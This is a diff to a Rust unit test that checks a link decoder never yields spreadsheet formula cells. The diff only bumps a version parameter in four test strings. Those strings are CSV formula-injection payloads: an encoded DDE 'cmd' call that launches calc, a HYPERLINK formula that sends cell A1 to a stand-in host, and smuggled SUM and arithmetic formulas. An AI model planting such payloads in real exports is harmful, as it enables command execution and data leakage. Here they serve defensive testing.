@@ -149,10 +149,10 @@ mod tests {
     #[test]
     fn no_cell_is_a_formula_whatever_the_link_holds() {
         let attacks = [
-            "?v=1&m=1&a=5m5d8w1c&wk=10&pop=0&zz=1%2C%3Dcmd%7C%27%2FC%20calc%27%21A0%2Cx",
-            "?v=1&m=1&a=5m5d8w1c&wk=10&pop=0&n=9,=HYPERLINK(\"http://e.x/\"&A1),y",
-            "?v=1&m=1&a=5m5d8w1c&wk=10&pop=0&n=%22%2C%3D1%2B1&art=;@SUM(A1)&k=%09-1",
-            "?v=1&m=1&a=5m5d8w1c&wk=10&pop=0&=cmd,+1=2&zz,%3D2=-1",
+            "?v=1&m=2&a=5m5d8w1c&wk=10&pop=0&zz=1%2C%3Dcmd%7C%27%2FC%20calc%27%21A0%2Cx",
+            "?v=1&m=2&a=5m5d8w1c&wk=10&pop=0&n=9,=HYPERLINK(\"http://e.x/\"&A1),y",
+            "?v=1&m=2&a=5m5d8w1c&wk=10&pop=0&n=%22%2C%3D1%2B1&art=;@SUM(A1)&k=%09-1",
+            "?v=1&m=2&a=5m5d8w1c&wk=10&pop=0&=cmd,+1=2&zz,%3D2=-1",
         ];
         for link in attacks {
             let decoded = link::decode(link).unwrap();
